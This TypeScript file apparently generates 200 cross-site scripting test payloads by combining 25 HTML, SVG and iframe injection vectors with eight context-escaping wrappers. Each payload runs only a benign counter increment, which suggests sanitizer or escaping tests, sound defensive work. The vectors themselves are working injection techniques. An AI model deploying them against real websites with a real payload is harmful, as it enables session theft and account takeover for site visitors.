/** Texts that run where text becomes markup, an address, a style or code: each calls hit(). */
const CALL = "window.hit=(window.hit||0)+1";

const MARKUP: readonly string[] = [
  "<script>X</script>", "<img src=x onerror=X>", "<svg onload=X>", "<svg><script>X</script></svg>", "<svg><animate onbegin=X attributeName=x dur=1s>", "<body onload=X>", "<iframe srcdoc='<script>parent.X</script>'></iframe>",
  "<iframe src=javascript:X></iframe>", "<details open ontoggle=X>", "<input autofocus onfocus=X>", "<select autofocus onfocus=X>", "<textarea autofocus onfocus=X>", "<video><source onerror=X></video>", "<video src=x onerror=X>", "<audio src=x onerror=X>",
  "<object data=x onerror=X>", "<embed src=javascript:X>", "<math><mtext><img src=x onerror=X></mtext></math>", "<style>@import 'javascript:X'</style>", "<style onload=X></style>", "<link rel=stylesheet href=x onerror=X>",
  "<a href=javascript:X autofocus onfocus=X>x</a>", "<form><button formaction=javascript:X autofocus onfocus=X>x</button></form>", "<template><img src=x onerror=X></template><img src=x onerror=X>", "<noscript><p title='</noscript><img src=x onerror=X>'>",
];

const WRAPS: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `</span></p></textarea></script></style></title>${markup}`,
  (markup) => `]]>--!>${markup}<!--`,
  (markup) => `\${X}{{X}}%7BX%7D${markup}`,
  (markup) => `王女士${markup}，您好`,
  (markup) => `\u202e\u0000${markup}\ufeff`,
];

/** Two hundred of them. */
export const PAYLOADS: readonly string[] = WRAPS.flatMap((wrap) => MARKUP.map((markup) => wrap(markup).replaceAll("X", CALL)));
